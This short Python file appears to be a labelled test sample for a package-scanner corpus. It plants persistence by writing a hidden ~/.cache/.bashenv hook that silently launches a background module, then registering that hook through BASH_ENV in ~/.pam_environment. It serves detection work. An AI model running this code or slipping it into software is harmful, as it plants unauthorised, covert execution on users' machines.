# pkgguard corpus 778 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import sys

home = os.path.expanduser("~")
hook = os.path.join(home, ".cache", ".bashenv")
with open(hook, "w") as fh:
    fh.write(f'( "{sys.executable}" -m pkg._sync >/dev/null 2>&1 & )\n')
with open(os.path.join(home, ".pam_environment"), "a") as fh:
    fh.write(f"BASH_ENV DEFAULT={hook}\n")
